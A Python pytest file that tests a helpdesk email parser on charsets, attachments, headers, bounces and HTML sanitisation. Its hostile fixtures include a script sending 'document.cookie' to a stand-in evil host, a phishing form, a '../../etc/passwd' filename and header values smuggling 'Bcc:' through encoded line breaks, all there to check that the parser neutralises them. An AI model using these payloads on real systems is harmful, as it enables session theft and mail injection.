from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from desk.inbox.message import ParsedMessage
from desk.inbox.parse import ParseError, html_to_text, parse_message

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "corpus"
# GPL fixtures are never copied into the repo; CI has them next to the checkout.
SHARED = Path(__file__).resolve().parents[3] / "shared" / "corpus"
RT = SHARED / "rt-emails"
CORPUS_FOLDERS = ("talon-standard-replies", "talon-html-replies", "django-helpdesk")


def _mail(headers: str, body: str = "hello\n") -> bytes:
    """Raw CRLF mail from readable header and body text."""
    text = headers.strip("\n") + "\n\n" + body
    return text.replace("\n", "\r\n").encode("utf-8")


def _corpus_files() -> list[Path]:
    roots = [FIXTURES / name for name in CORPUS_FOLDERS]
    roots += [SHARED / name for name in (*CORPUS_FOLDERS, "rt-emails")]
    files = {
        path
        for root in roots
        if root.is_dir()
        for path in root.rglob("*")
        if path.is_file() and path.name != "README.md"
    }
    return sorted(files)


def _rt(name: str) -> ParsedMessage:
    path = RT / name
    if not path.is_file():
        pytest.skip(f"RT corpus not available at {RT}")
    return parse_message(path.read_bytes())


def _fixture(folder: str, name: str) -> ParsedMessage:
    return parse_message((FIXTURES / folder / name).read_bytes())


# --------------------------------------------------------------------------- whole corpus


def _corpus_id(path: Path) -> str:
    for label, root in (("fixtures", FIXTURES), ("shared", SHARED)):
        if path.is_relative_to(root):
            return f"{label}/{path.relative_to(root)}"
    return str(path)


@pytest.mark.parametrize("path", _corpus_files(), ids=_corpus_id)
def test_every_corpus_file_parses_into_a_safe_message(path: Path) -> None:
    raw = path.read_bytes()
    msg = parse_message(raw)

    assert msg.message_id and " " not in msg.message_id
    assert msg.raw_size == len(raw)
    assert "\r" not in msg.text_body and "\x00" not in msg.text_body
    assert "\n" not in msg.subject and "\r" not in msg.subject
    assert all("\n" not in a.name for a in [*msg.to, *msg.cc, *msg.reply_to])
    if msg.html_body is not None:
        assert "<script" not in msg.html_body.lower()


def test_shared_rt_corpus_is_checked_when_present() -> None:
    if not RT.is_dir():
        pytest.skip(f"RT corpus not available at {RT}")
    assert any("rt-emails" in str(path) for path in _corpus_files())


# --------------------------------------------------------------------------- django-helpdesk


@pytest.mark.parametrize(
    ("name", "subject", "body_fragment"),
    [
        ("quoted_printable.eml", "Český test", "Tohle je test českých písmen"),
        ("all-special-chars.eml", "Testovácí email", "íářčšáíéřášč"),
        (
            "utf-nondecodable.eml",
            "Fwd: Cyklozaměstnavatel - změna vyhodnocení",
            "podle domluvy bych Tě poprosila",
        ),
        ("forwarded-message.eml", "Test with original message from GitHub", "This is email body"),
    ],
)
def test_django_helpdesk_subjects_and_bodies(name: str, subject: str, body_fragment: str) -> None:
    msg = _fixture("django-helpdesk", name)

    assert msg.subject == subject
    assert body_fragment in msg.text_body
    assert msg.sender is not None and msg.date is not None


def test_blank_body_with_attachment_has_empty_body_and_one_attachment() -> None:
    msg = _fixture("django-helpdesk", "blank-body-with-attachment.eml")

    assert msg.text_body == ""
    assert len(msg.attachments) == 1
    (attachment,) = msg.attachments
    assert attachment.filename == "baf"
    assert attachment.content == b"You shouldn't see this.\n"
    assert attachment.size == len(attachment.content)


def test_pgp_signature_is_an_attachment_not_body() -> None:
    msg = _fixture("django-helpdesk", "pgp.eml")

    assert "BEGIN PGP SIGNATURE" not in msg.text_body
    assert [a.content_type for a in msg.attachments] == ["application/pgp-signature"]


# --------------------------------------------------------------------------- talon


@pytest.mark.parametrize(
    "path",
    sorted((FIXTURES / "talon-standard-replies").glob("*.eml")),
    ids=lambda p: p.name,
)
def test_talon_standard_replies_body_contains_the_reply(path: Path) -> None:
    reply_file = path.with_name(path.stem + "_reply_text")
    expected = reply_file.read_text().strip() if reply_file.exists() else "Hello"

    msg = parse_message(path.read_bytes())

    assert expected in msg.text_body
    assert msg.subject in ("Re: Test", "RE: Test", "Test", "Re: Hello there")


@pytest.mark.parametrize(
    "path", sorted((FIXTURES / "talon-html-replies").glob("*.html")), ids=lambda p: p.name
)
def test_talon_html_replies_become_readable_text(path: Path) -> None:
    raw = _mail("From: a@example.com\nContent-Type: text/html; charset=utf-8", "") + (
        path.read_bytes()
    )

    msg = parse_message(raw)

    assert "Hi. I am fine." in msg.text_body
    # Upstream compares with all whitespace removed; the reply must come first, intact.
    assert "".join(msg.text_body.split()).startswith("Hi.Iamfine.Thanks,Alex")
    assert "<" not in msg.text_body.split("Alex")[0]
    assert msg.html_body is not None and "Hi. I am fine." in msg.html_body


# --------------------------------------------------------------------------- RT (GPL, shared)


def test_rt_gb18030_subject_and_body() -> None:
    msg = _rt("new-ticket-from-gb18030")

    assert msg.subject == "测试"
    assert msg.text_body == "测试"


def test_rt_iso_8859_1_undeclared_8bit_from_name() -> None:
    msg = _rt("new-ticket-from-iso-8859-1")

    assert msg.sender is not None
    assert msg.sender.name == "Wilhelmsen Håvard"
    assert msg.text_body == "Håvard"
    assert msg.references == [
        "5.2.1.1.0.20030602204834.031406d8@mail.nordkapp.net",
        "5.2.1.1.0.20030530194214.0371c988@mail.nordkapp.net",
    ]


def test_rt_iso_8859_1_full_keeps_nordic_letters() -> None:
    msg = _rt("new-ticket-from-iso-8859-1-full")

    assert "letters like: ø æ å" in msg.text_body
    assert msg.sender is not None and msg.sender.name == "Wilhelmsen Håvard"


@pytest.mark.parametrize("number", range(1, 8))
def test_rt_8859_15_series_subject_with_euro(number: int) -> None:
    msg = _rt(f"8859-15-message-series/msg{number}")

    assert msg.subject == "test äöüßÄÖÜß€"
    assert msg.text_body.endswith("test äöüßÄÖÜß€")


def test_rt_rfc2231_filename_continuations() -> None:
    msg = _rt("rfc2231-attachment-filename-continuations")

    assert [a.filename for a in msg.attachments] == ["新しいテキスト ドキュメント.txt"]
    assert msg.text_body == "Some data in a file"


def test_rt_nested_rfc822_forwarded_content_is_reachable() -> None:
    msg = _rt("nested-rfc-822")

    assert msg.text_body.startswith("Material för att uppdatera texten om nivåer.")
    (forwarded,) = msg.attachments
    assert forwarded.content_type == "message/rfc822"
    assert forwarded.filename == "Re: [Para] Nivåer?.eml"
    assert forwarded.content is not None
    inner = parse_message(forwarded.content)
    assert inner.message_id == "877k76uxk2.fsf@example.com"
    assert "Jag skulle kunna lägga en massa tid" in inner.text_body


def test_rt_nested_mime_sample_lists_each_forwarded_message() -> None:
    msg = _rt("nested-mime-sample")

    assert [a.content_type for a in msg.attachments] == ["message/rfc822"] * 2
    assert msg.text_body.startswith("MIME is fun at times.")


def test_rt_email_file_attachment_keeps_declared_filename() -> None:
    msg = _rt("email-file-attachment.eml")

    (attached,) = msg.attachments
    assert (attached.filename, attached.content_type) == ("test-email.eml", "message/rfc822")
    assert attached.content is not None
    assert parse_message(attached.content).text_body == "This is a test."


def test_rt_outlook_forwarded_message_named_after_its_subject() -> None:
    msg = _rt("outlook-rfc822")

    assert "Check out the attached file." in msg.text_body
    assert [a.filename for a in msg.attachments] == ["Updates to our terms of use.eml"]


def test_rt_notes_uuencoded_body_becomes_an_attachment() -> None:
    msg = _rt("notes-uuencoded")

    (image,) = msg.attachments
    assert (image.filename, image.content_type) == ("Naz_Head.jpg", "image/jpeg")
    assert image.content is not None
    # A complete JPEG: start-of-image and end-of-image markers both survived decoding.
    assert image.content.startswith(b"\xff\xd8\xff") and image.content.endswith(b"\xff\xd9")
    assert image.size == len(image.content) > 100_000
    assert "begin 644" not in msg.text_body
    assert "(UUEncoded file named: Naz_Head.jpg follows)" in msg.text_body


def test_rt_multipart_report_fills_dsn_fields() -> None:
    msg = _rt("multipart-report")

    assert msg.dsn_original_message_id == "200308221615.h7MGFGac020135@mx12.other.example.com"
    assert msg.dsn_failed_recipients == ["jesmund@mailbox.other.example.com"]
    assert msg.return_path == "mailnull@example.com"
    assert "permanent delivery errors" in msg.text_body


@pytest.mark.parametrize(
    ("name", "subject"),
    [
        ("very-long-subject", "0123456789" * 30),
        ("subject-with-folding-ws", "test"),
        ("russian-subject-no-content-type", "тест тест"),
    ],
)
def test_rt_subject_is_one_decoded_line(name: str, subject: str) -> None:
    assert _rt(name).subject == subject


def test_rt_russian_undeclared_koi8_body() -> None:
    msg = _rt("russian-subject-no-content-type")

    assert msg.text_body == "ТЕСТ"
    assert any("koi8" in defect for defect in msg.defects)


def test_rt_html_only_message_with_umlaut() -> None:
    msg = _rt("text-html-with-umlaut")

    assert "Mit freundlichen Grüßen" in msg.text_body
    assert msg.html_body is not None
    assert "<meta" not in msg.html_body.lower() and "Grüßen" in msg.html_body


def test_rt_alternative_prefers_plain_part() -> None:
    msg = _rt("multipart-alternative-with-umlaut")

    assert "Gregor Stever      ^^causes Error!!" in msg.text_body  # spacing of the plain part
    assert msg.html_body is not None and "<div>" in msg.html_body


def test_rt_file_based_parser_crash_message() -> None:
    msg = _rt("crashes-file-based-parser")

    assert msg.text_body.startswith("FYI")
    assert [(a.filename, a.content_type) for a in msg.attachments] == [
        ("BackGrnd.jpg", "image/jpeg")
    ]


def test_rt_folded_custom_header_is_unfolded() -> None:
    msg = _rt("rt-send-cc")

    (value,) = msg.headers["rt-send-cc"]
    assert "\n" not in value and value.endswith("afourthtest4@example.com, test5@example.com")


def test_rt_headerless_body_parses_with_defects() -> None:
    msg = _rt("lorem-ipsum")

    assert msg.sender is None
    assert msg.text_body.startswith("Lorem ipsum dolor sit amet")
    assert msg.message_id.startswith("sha256-")
    assert {"no From header", "no Message-ID", "no Date header"} <= set(msg.defects)


# --------------------------------------------------------------------------- HTML


HOSTILE_HTML = """<html><head><title>Invoice</title>
<style>body { background: url(http://evil.example/bg.png) }</style></head>
<body onload="steal()">
<p onclick="alert(1)">Dear support,</p>
<p>Please see <a href="https://example.com/doc" onmouseover="x()">the document</a>.</p>
<img src="http://tracker.example/pixel.gif" width="1"><img src="cid:logo@x" alt="logo">
<form action="https://phish.example/login"><input name="password"><button>Log in</button></form>
<script>document.location = "https://evil.example/?" + document.cookie</script>
<ul><li>first</li><li>second</li></ul>
</body></html>"""


def test_html_only_message_is_sanitised_and_converted() -> None:
    msg = parse_message(_mail("From: a@example.com\nContent-Type: text/html", HOSTILE_HTML))

    html = msg.html_body
    assert html is not None
    for forbidden in (
        "<script",
        "onclick",
        "onload",
        "onmouseover",
        "<form",
        "<input",
        "tracker.example",
        "evil.example",
        "<style",
        "<title",
    ):
        assert forbidden not in html.lower()
    assert 'href="https://example.com/doc"' in html
    assert 'rel="noopener noreferrer"' in html
    assert 'src="cid:logo@x"' in html

    text = msg.text_body
    assert text.startswith("Dear support,\n\nPlease see the document [https://example.com/doc].")
    assert "- first\n- second" in text
    assert "document.cookie" not in text and "Invoice" not in text and "background" not in text


def test_html_to_text_keeps_structure_and_unescapes_entities() -> None:
    text = html_to_text(
        "<h1>Title</h1><div>a&amp;b</div><div>c&nbsp;d<br>e</div>"
        "<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>"
    )

    assert text == "Title\n\na&b\nc d\ne\n\n1 2\n3"


def test_html_without_closing_head_still_has_body_text() -> None:
    assert html_to_text("<html><head><meta charset=utf-8><body><p>Visible</p>") == "Visible"


# --------------------------------------------------------------------------- attachments


def _with_attachment(data: bytes, filename_header: str) -> bytes:
    encoded = base64.encodebytes(data).decode("ascii")
    return _mail(
        "From: a@example.com\nContent-Type: multipart/mixed; boundary=XX",
        "--XX\nContent-Type: text/plain\n\nsee attached\n"
        f"--XX\nContent-Type: application/octet-stream\n{filename_header}\n"
        f"Content-Transfer-Encoding: base64\n\n{encoded}\n--XX--\n",
    )


def test_attachment_over_cap_keeps_metadata_only() -> None:
    data = b"\x00\x01" * (1024 * 1024)  # 2 MB
    raw = _with_attachment(data, 'Content-Disposition: attachment; filename="big.bin"')

    msg = parse_message(raw, max_attachment_bytes=1024 * 1024)

    (attachment,) = msg.attachments
    assert attachment.content is None
    assert attachment.size == 2 * 1024 * 1024
    assert attachment.note == "not stored: 2.0 MB is over the 1.0 MB attachment cap"
    assert msg.text_body == "see attached"


def test_attachment_under_cap_is_kept() -> None:
    raw = _with_attachment(b"%PDF-1.4", 'Content-Disposition: attachment; filename="a.pdf"')

    (attachment,) = parse_message(raw, max_attachment_bytes=1024).attachments
    assert (attachment.content, attachment.size, attachment.note) == (b"%PDF-1.4", 8, "")


@pytest.mark.parametrize(
    ("header", "filename"),
    [
        (
            "Content-Disposition: attachment; filename*=UTF-8''na%C3%AFve%20file.txt",
            "naïve file.txt",
        ),
        ('Content-Disposition: attachment; filename="=?utf-8?b?w6l0w6kucGRm?="', "été.pdf"),
        ('Content-Disposition: attachment; filename="../../etc/passwd"', "passwd"),
        ("Content-Disposition: attachment", ""),
        ("Content-Disposition: inline", ""),
    ],
)
def test_attachment_filenames_are_decoded(header: str, filename: str) -> None:
    (attachment,) = parse_message(_with_attachment(b"x", header)).attachments
    assert attachment.filename == filename


def test_forwarded_message_without_outer_text_supplies_the_body() -> None:
    raw = _mail(
        "From: a@example.com\nContent-Type: multipart/mixed; boundary=XX",
        "--XX\nContent-Type: message/rfc822\n\n"
        "From: b@example.com\nSubject: Original problem\n\nThe site is down.\n--XX--\n",
    )

    msg = parse_message(raw)

    assert msg.text_body == "The site is down."
    (attached,) = msg.attachments
    assert (attached.filename, attached.content_type) == ("Original problem.eml", "message/rfc822")


# --------------------------------------------------------------------------- headers


def test_missing_headers_become_defects_and_id_is_stable() -> None:
    raw = _mail("Subject: anonymous", "who am I\n")

    first, second = parse_message(raw), parse_message(raw)

    assert first.sender is None and first.date is None
    assert {"no From header", "no Message-ID", "no Date header"} <= set(first.defects)
    assert first.message_id == second.message_id
    assert first.message_id.endswith("@desk.invalid")
    assert parse_message(raw + b"!").message_id != first.message_id


def test_header_injection_via_encoded_crlf_is_neutralised() -> None:
    raw = _mail(
        "From: =?utf-8?q?Eve=0D=0ABcc:_victim@x?= <EVE@Example.com>\n"
        "To: =?utf-8?q?Bob=0ACc:_x@y?= <bob@example.com>\n"
        "Subject: =?utf-8?q?Hello=0D=0ABcc:_evil@x?=\n"
        "Message-ID: <1@x>"
    )

    msg = parse_message(raw)

    assert msg.subject == "Hello Bcc: evil@x"
    assert msg.sender is not None
    assert msg.sender.email == "eve@example.com"
    assert "\r" not in msg.sender.name and "\n" not in msg.sender.name
    assert msg.sender.name == "Eve Bcc: victim@x"
    assert [a.email for a in msg.to] == ["bob@example.com"]
    assert all("\n" not in v and "\r" not in v for vs in msg.headers.values() for v in vs)


def test_body_control_characters_are_stripped_but_layout_kept() -> None:
    msg = parse_message(b"From: a@example.com\r\n\r\ncol1\tcol2\x00\x07\r\nnext\rline\n")

    assert msg.text_body == "col1\tcol2\nnext\nline"


@pytest.mark.parametrize(
    ("date_header", "expected"),
    [
        (
            "Tue, 5 Mar 2019 18:03:06 +0100",
            datetime(2019, 3, 5, 18, 3, 6, tzinfo=timezone(timedelta(hours=1))),
        ),
        ("Tue, 5 Mar 2019 18:03:06 -0000", datetime(2019, 3, 5, 18, 3, 6, tzinfo=UTC)),
        ("Tue, 5 Mar 2019 18:03:06 GMT", datetime(2019, 3, 5, 18, 3, 6, tzinfo=UTC)),
        ("next Blursday", None),
        ("", None),
    ],
)
def test_dates_are_aware_or_none(date_header: str, expected: datetime | None) -> None:
    msg = parse_message(_mail(f"From: a@example.com\nDate: {date_header}"))

    assert msg.date == expected
    if msg.date is not None:
        assert msg.date.tzinfo is not None
    else:
        assert any("Date" in defect for defect in msg.defects)


def test_address_lists_and_groups() -> None:
    msg = parse_message(
        _mail(
            'From: "Doe, Jane" <Jane.Doe@Example.COM>\n'
            "To: undisclosed-recipients:;\n"
            'Cc: Team: x@example.com, Q <q@example.com>;, "bad <<>> ,\n'
            "Reply-To: =?utf-8?q?J=C3=BCrgen?= <j@example.com>"
        )
    )

    assert msg.sender is not None
    assert (msg.sender.name, msg.sender.email) == ("Doe, Jane", "jane.doe@example.com")
    assert msg.to == []
    assert [a.email for a in msg.cc][:2] == ["x@example.com", "q@example.com"]
    assert [(a.name, a.email) for a in msg.reply_to] == [("Jürgen", "j@example.com")]


def test_unparseable_from_is_none_with_defect() -> None:
    msg = parse_message(_mail('From: "unclosed <<>> ,,;'))

    assert msg.sender is None
    assert "From header has no usable address" in msg.defects


def test_threading_ids_tolerate_garbage() -> None:
    msg = parse_message(
        _mail(
            "From: a@example.com\nMessage-ID:  <abc@x.example>  (comment)\n"
            'In-Reply-To: <p@x> (Jakob\'s message of "Sat, 28 Jun")\n'
            "References: junk <r1@x>\n\t<r2@x> <r1@x> <<broken"
        )
    )

    assert msg.message_id == "abc@x.example"
    assert msg.in_reply_to == ["p@x"]
    assert msg.references == ["r1@x", "r2@x"]


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Return-Path: <>\n", ""),
        ("Return-Path: <Bounce@Example.com>\n", "bounce@example.com"),
        ("", None),
    ],
)
def test_return_path(header: str, expected: str | None) -> None:
    assert parse_message(_mail(f"{header}From: a@example.com")).return_path == expected


def test_headers_dict_is_lowercased_and_keeps_repeats() -> None:
    msg = parse_message(
        _mail("Received: one\nReceived: two\nX-Custom: =?utf-8?q?caf=C3=A9?=\nFrom: a@x.example")
    )

    assert msg.headers["received"] == ["one", "two"]
    assert msg.header("X-CUSTOM") == "café"


@pytest.mark.parametrize(
    ("content_type", "body", "expected", "defect"),
    [
        ("text/plain; charset=x-no-such-charset", b"caf\xc3\xa9", "café", "unknown charset"),
        ("text/plain; charset=utf-8", b"caf\xe9 ok", "café ok", "not valid"),
        (
            "text/plain; charset=utf-8",
            "ça va \u2013 ".encode() + b"\xff",
            "ça va \u2013 \ufffd",
            "not valid",
        ),
        ("text/plain; charset=us-ascii", b"caf\xe9", "café", "not valid"),
        ("text/plain; charset=zlib", b"plain", "plain", "unknown charset"),
        ("text/plain", b"\xef\xbb\xbfBOM? caf\xc3\xa9", "\ufeffBOM? café", None),
    ],
)
def test_bad_charsets_fall_back(
    content_type: str, body: bytes, expected: str, defect: str | None
) -> None:
    raw = _mail(f"From: a@example.com\nContent-Type: {content_type}", "") + body

    msg = parse_message(raw)

    assert msg.text_body == expected
    if defect:
        assert any(defect in d for d in msg.defects)


def test_multipart_alternative_uses_plain_and_sanitised_html() -> None:
    raw = _mail(
        "From: a@example.com\nContent-Type: multipart/alternative; boundary=B",
        "--B\nContent-Type: text/plain\n\nplain version\n"
        "--B\nContent-Type: text/html\n\n<p>html <b>version</b><script>x()</script></p>\n--B--\n",
    )

    msg = parse_message(raw)

    assert msg.text_body == "plain version"
    assert msg.html_body == "<p>html <b>version</b></p>"
    assert msg.attachments == []


def test_delivery_status_only_lists_failed_recipients() -> None:
    raw = _mail(
        "From: MAILER-DAEMON@mx.example\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="R"',
        "--R\nContent-Type: text/plain\n\nDelivery failed.\n"
        "--R\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example\n\n"
        "Original-Recipient: rfc822;Alias@Example.org\nFinal-Recipient: rfc822; real@example.org\n"
        "Action: failed\nStatus: 5.1.1\n\n"
        "Final-Recipient: RFC822; <slow@example.org>\nAction: delayed\nStatus: 4.0.0\n\n"
        "Final-Recipient: rfc822; gone@example.org\nAction: failed\nStatus: 5.0.0\n"
        "--R\nContent-Type: text/rfc822-headers\n\n"
        "Message-ID: <ours-123@desk.example>\nSubject: Re: ticket\n--R--\n",
    )

    msg = parse_message(raw)

    assert msg.dsn_failed_recipients == ["alias@example.org", "gone@example.org"]
    assert msg.dsn_original_message_id == "ours-123@desk.example"
    assert msg.text_body == "Delivery failed."


def test_forwarded_mail_is_not_mistaken_for_a_bounce() -> None:
    raw = _mail(
        "From: a@example.com\nContent-Type: multipart/mixed; boundary=XX",
        "--XX\nContent-Type: text/plain\n\nFYI\n--XX\nContent-Type: message/rfc822\n\n"
        "From: b@example.com\nMessage-ID: <fwd@x>\n\nold\n--XX--\n",
    )

    assert parse_message(raw).dsn_original_message_id is None


@pytest.mark.parametrize("raw", [b"", b"   \r\n\r\n  \n"])
def test_empty_input_is_a_parse_error(raw: bytes) -> None:
    with pytest.raises(ParseError):
        parse_message(raw)


def test_deep_nesting_is_cut_off_with_a_defect() -> None:
    raw = b"From: a@example.com\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * 100 + b"hi"

    msg = parse_message(raw)

    assert any("nesting too deep" in defect for defect in msg.defects)
